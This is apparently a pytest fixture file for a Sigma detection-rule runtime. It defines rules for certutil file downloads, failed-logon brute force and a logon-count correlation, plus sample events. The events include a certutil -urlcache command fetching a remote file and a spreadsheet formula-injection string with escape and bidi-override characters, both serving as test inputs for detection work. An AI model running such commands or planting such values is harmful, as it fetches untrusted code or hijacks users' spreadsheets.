"""A few rules, a correlation above one of them, and events that they match."""

from __future__ import annotations

from pathlib import Path

import orjson
import pytest

from sigmac.runtime import Pack, load_pack
from tests.unit.packs import write_text_pack

RULES = r"""
title: Certutil
id: 5b1f6a8e-43d0-4d8a-9d0c-6a9b6a3f2c11
status: test
level: high
description: It fetches files.
author: Somebody
references: ['https://example.org/certutil']
falsepositives: [Updaters]
tags: [attack.command-and-control, attack.t1105]
logsource: {product: windows, category: process_creation}
detection:
  program: {Image|endswith: '\certutil.exe'}
  verb: {CommandLine|contains: [' -urlcache ', ' -verifyctl ']}
  filter: {User: updater}
  condition: program and verb and not filter
---
title: Brute Force
level: high
tags: [attack.credential_access, attack.t1110.001]
logsource: {product: windows}
detection: {s: {EventID: 4625, Status: '0xc000006a'}, condition: s}
---
title: Logon Failed
name: failed
level: low
tags: [attack.credential-access]
logsource: {product: windows}
detection: {s: {EventID: 4625}, condition: s}
---
title: '[Odd] Rule'
logsource: {product: any}
detection: {keywords: [needle], condition: keywords}
---
title: Many Failed Logons
level: critical
tags: [attack.t1110]
correlation:
  type: event_count
  rules: failed
  group-by: [TargetUserName]
  timespan: 5m
  condition: {gte: 2}
  generate: true
"""
EVENTS = [
    {
        "UtcTime": "2026-11-23 08:01:12.310",
        "Computer": "ws07",
        "User": "CONTOSO\\anna",
        "Image": "C:\\Windows\\certutil.exe",
        "CommandLine": "certutil -urlcache -f http://198.51.100.7/a",
    },
    {
        "UtcTime": "2026-11-23 08:00:00",
        "EventID": 4625,
        "TargetUserName": "bob",
        "Computer": "dc01",
    },
    {
        "UtcTime": "2026-11-23 08:00:30",
        "EventID": 4625,
        "Status": "0xC000006A",
        "TargetUserName": "bob",
        "Computer": "dc01",
    },
    {"text": "=cmd|' /C needle'!A1 \x1b[2J \u202e", "host": {"name": "机器"}},
    {"EventID": 1},
]


@pytest.fixture(scope="session")
def pack_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_text_pack(RULES, tmp_path_factory.mktemp("results"))


@pytest.fixture(scope="session")
def pack(pack_folder: Path) -> Pack:
    return load_pack(pack_folder)


@pytest.fixture(scope="session")
def events(tmp_path_factory: pytest.TempPathFactory) -> Path:
    file = tmp_path_factory.mktemp("events") / "events.ndjson"
    file.write_bytes(b"".join(orjson.dumps(each) + b"\n" for each in EVENTS))
    return file
